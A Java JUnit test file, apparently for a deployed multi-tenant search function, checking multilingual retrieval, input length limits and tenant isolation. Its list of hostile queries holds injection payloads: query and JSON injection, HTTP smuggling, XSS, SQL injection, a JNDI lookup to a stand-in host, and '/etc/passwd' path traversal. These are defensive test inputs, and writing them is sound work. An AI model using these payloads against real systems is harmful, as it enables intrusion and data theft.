package dev.millrace.search;

import static org.assertj.core.api.Assertions.assertThat;

import dev.millrace.core.domain.TenantId;
import dev.millrace.models.onnx.OnnxEmbedder;
import dev.millrace.models.onnx.OnnxModel;
import dev.millrace.search.opensearch.LocalNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Whatever a reader may type, through the function as it is deployed, fused by the index and fused here.
class AnyQueryTest {

    private static final TenantId TENANT = new TenantId("any-" + UUID.randomUUID());
    private static final TenantId STRANGER = new TenantId("globex");
    private static final Map<String, String> READER = Map.of("tenant", TENANT.value(), "tier", "internal");
    private static final Path LANGUAGES = Path.of("src/test/resources/queries/languages.tsv");
    private static final int LONGEST = 2_000;
    private static DeployedSearch fusedThere;
    private static DeployedSearch fusedHere;

    @BeforeAll
    static void start() throws Exception {
        var node = LocalNode.running();
        try (var model = OnnxEmbedder.load(OnnxModel.BGE_SMALL_EN, 1)) {
            var chunks = new ArrayList<StoredChunk>();
            for (var text : texts()) {
                chunks.add(DeployedSearch.document(model, TENANT, text.language(), text.document()));
            }
            chunks.add(DeployedSearch.document(model, TENANT, "mine", "The tenant's title: merger OR takeover"));
            chunks.add(DeployedSearch.document(model, STRANGER, "theirs", "The tenant's title: merger OR takeover"));
            node.index(chunks);
        }
        var ledger = LocalLedger.start();
        fusedThere = DeployedSearch.of("searchKnowledge", node, ledger, TENANT, Map.of());
        fusedHere = DeployedSearch.of("searchKnowledge", node, ledger, TENANT, Map.of("FUSION", "client"));
    }

    /// Every document says the same in another language. What detects names learned from English: in some languages it
    /// takes a whole question for one, and then there is nothing left to look for.
    @Test
    void questions_of_thirty_languages_find_what_is_written_in_theirs() throws IOException {
        for (var function : List.of(fusedThere, fusedHere)) {
            var foundFirst = new ArrayList<String>();
            for (var text : texts()) {
                var documents = answered(function, text.query()).documents();
                if (documents.getFirst().equals(text.language())) {
                    foundFirst.add(text.language());
                }
            }
            assertThat(foundFirst).hasSizeGreaterThanOrEqualTo(30);
        }
    }

    @Test
    void questions_of_every_language_are_answered_however_they_are_written() throws IOException {
        for (var text : texts()) {
            for (var typed : List.of(
                    text.document(),
                    text.query().toUpperCase(Locale.ROOT),
                    text.query().strip() + "\n")) {
                assertThat(answered(fusedThere, typed).documents()).isNotEmpty().doesNotContain("theirs");
            }
        }
    }

    @ParameterizedTest
    @MethodSource
    void no_syntax_means_anything_to_the_index(String hostile) throws IOException {
        for (var function : List.of(fusedThere, fusedHere)) {
            assertThat(answered(function, hostile).documents()).doesNotContain("theirs");
        }
    }

    static Stream<String> no_syntax_means_anything_to_the_index() {
        return Stream.of(
                "*",
                "*:*",
                "?*~^",
                "/.*/",
                "tenant:globex merger",
                "_exists_:tenant AND tier:restricted",
                "[* TO *] {a TO z}",
                "merger AND AND OR NOT",
                "+merger -tenant ~2 ^1000000",
                "((((((((((merger",
                "\"merger takeover",
                "merger\\",
                "\\\\\\\" \\u0000",
                "merger \u0000 takeover",
                "{\"query\":{\"match_all\":{}}}",
                "\"}},{\"match_all\":{}},{\"x\":{\"y\":\"",
                "merger\n{}\n{\"query\":{\"match_all\":{}},\"size\":100}\n",
                "merger\r\n\r\nGET /_cat/indices HTTP/1.1\r\nHost: x\r\n\r\n",
                "<em>merger</em><script>alert(1)</script>",
                "' OR tenant = 'globex' --",
                "${jndi:ldap://x.example/a} {{7*7}} #{tenant}",
                "%00%0a..%2f..%2fetc%2fpasswd",
                "\u202emerger\u202c \u2066takeover\u2069",
                "\u200b\ufeff\u00ad",
                "m\u0336e\u0336r\u0336g\u0336e\u0336r",
                "\ud83d\ude00\ud83d\ude00 merger",
                "\ud83d unpaired",
                "unpaired \ude00 merger",
                "a".repeat(LONGEST),
                "e\u0301".repeat(LONGEST / 2),
                "\ud83c\udff4\u200d".repeat(LONGEST / 3),
                "a ".repeat(LONGEST / 2),
                "\"a\"".repeat(LONGEST / 3),
                "a-1 ".repeat(LONGEST / 4),
                "(".repeat(LONGEST),
                "\ufdfa".repeat(LONGEST));
    }

    /// Whatever is in it; it is refused before it is read, and not repeated.
    @Test
    void fifty_thousand_characters_are_refused_at_once() throws IOException {
        for (var piece : List.of("parental leave ", "\"", "a-1 ", "\ud83d\ude00", "*:* OR ")) {
            var began = System.nanoTime();
            var refused = fusedThere.post(asking(piece.repeat(50_000 / piece.length())), READER);

            assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(Duration.ofSeconds(2));
            assertThat(refused.status()).isEqualTo(400);
            assertThat(refused.body()).contains("$.query", "2000").hasSizeLessThan(500);
        }
    }

    @Test
    void an_empty_query_is_refused() throws IOException {
        for (var empty : List.of("", " ", "\t\n")) {
            assertThat(fusedThere.post(asking(empty), READER).status())
                    .as(empty)
                    .isEqualTo(400);
        }
    }

    private static DeployedSearch.Response answered(DeployedSearch function, String query) throws IOException {
        var found = function.post(asking(query), READER);
        assertThat(found.status()).as(found.body()).isEqualTo(200);
        return found;
    }

    /// A sentence and a question that it answers.
    private record Text(String language, String document, String query) {}

    private static List<Text> texts() throws IOException {
        try (var lines = Files.lines(LANGUAGES)) {
            return lines.skip(1)
                    .map(line -> line.split("\t"))
                    .map(fields -> new Text(fields[0], fields[1], fields[2]))
                    .toList();
        }
    }

    /// With every unit escaped, as JSON may be: half a character cannot be written otherwise.
    private static String asking(String query) {
        return query.chars()
                .mapToObj(unit -> "\\u%04x".formatted(unit))
                .collect(Collectors.joining("", "{\"query\": \"", "\"}"));
    }
}
